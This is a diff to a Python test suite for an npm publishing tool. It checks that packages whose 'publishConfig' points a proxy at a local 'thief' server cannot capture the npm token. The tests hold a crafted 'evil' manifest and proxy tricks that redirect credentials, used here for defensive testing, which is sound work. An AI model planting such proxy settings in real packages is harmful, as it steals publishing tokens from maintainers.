@@ -9,12 +9,13 @@ from __future__ import annotations
 import json
 import subprocess
 import tarfile
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
 
 import pytest
 
 from chittyactions.errors import ArtifactError, ConfigError
+from chittyactions.publish import npm_cli
 from chittyactions.publish.model import Status
 from chittyactions.publish.npm_cli import NpmSession
 from chittyactions.publish.package_json import judge_package
@@ -73,20 +74,37 @@ def test_publish_config(publisher: Publisher, thief: Thief, tmp_path: Path, tric
     assert thief.heard == []
 
 
-def test_the_refusal_is_needed(publisher: Publisher, thief: Thief, tmp_path: Path) -> None:
-    """Our own npm, in its clean folder with every setting named, follows a package's proxy all the same."""
+def test_the_refusal_is_needed(
+    publisher: Publisher, thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Our own npm, in its clean folder with a registry named, follows a package's proxy all the same."""
+    monkeypatch.setattr(npm_cli, "PINNED", ())
     data = package("1.0.0", name=publisher.name, publishConfig={"proxy": thief.url})
     raw_publish(publisher, data, tmp_path)
     assert thief.stole(publisher.local.npm_token)
 
 
-def raw_publish(publisher: Publisher, data: bytes, temp: Path) -> None:
+@pytest.mark.parametrize("trick", PUBLISH_CONFIGS)
+def test_the_second_wall(publisher: Publisher, thief: Thief, tmp_path: Path, trick: str) -> None:
+    """Should a package slip through our look at it, what npm is told goes before what the package says."""
+    secure = trick == "https-proxy"
+    registry = f"{publisher.local.tls_url}/npm/" if secure else publisher.local.npm.url
+    data = package("1.0.0", name=publisher.name, publishConfig=PUBLISH_CONFIGS[trick](thief.url))
+    environ = {**ENVIRONMENT, "NODE_EXTRA_CA_CERTS": str(publisher.local.ca_file)}
+    raw_publish(publisher, data, tmp_path, registry, environ)
+    assert thief.heard == []
+    assert publisher.versions == ["1.0.0"]
+
+
+def raw_publish(
+    publisher: Publisher, data: bytes, temp: Path, registry: str = "", environ: Mapping[str, str] = ENVIRONMENT
+) -> None:
     """Our npm without our look at the package."""
     file = temp / "raw.tgz"
     file.write_bytes(data)
     with NpmSession(
-        the_npm(), registry=publisher.local.npm.url, scope="@chittyos", token=publisher.local.npm_token,
-        provenance=False, environ=ENVIRONMENT, temp=temp, redact=lambda text: text, seconds=20,
+        the_npm(), registry=registry or publisher.local.npm.url, scope="@chittyos", token=publisher.local.npm_token,
+        provenance=False, environ=environ, temp=temp, redact=lambda text: text, seconds=20,
     ) as session:  # fmt: skip
         session.publish(file, tag="latest", access="")
 
@@ -114,8 +132,11 @@ TARBALLS: dict[str, Callable[[bytes, bytes], Members]] = {
 
 
 @pytest.mark.parametrize("trick", TARBALLS)
-def test_two_manifests(publisher: Publisher, thief: Thief, tmp_path: Path, trick: str) -> None:
+def test_two_manifests(
+    publisher: Publisher, thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trick: str
+) -> None:
     """npm takes the last one, under whatever folder; such a tarball is refused before there is a token."""
+    monkeypatch.setattr(npm_cli, "PINNED", ())
     good = json.dumps({"name": publisher.name, "version": "1.0.0"}).encode()
     evil = json.dumps({"name": publisher.name, "version": "1.0.0", "publishConfig": {"proxy": thief.url}}).encode()
     data = tarball(TARBALLS[trick](good, evil))
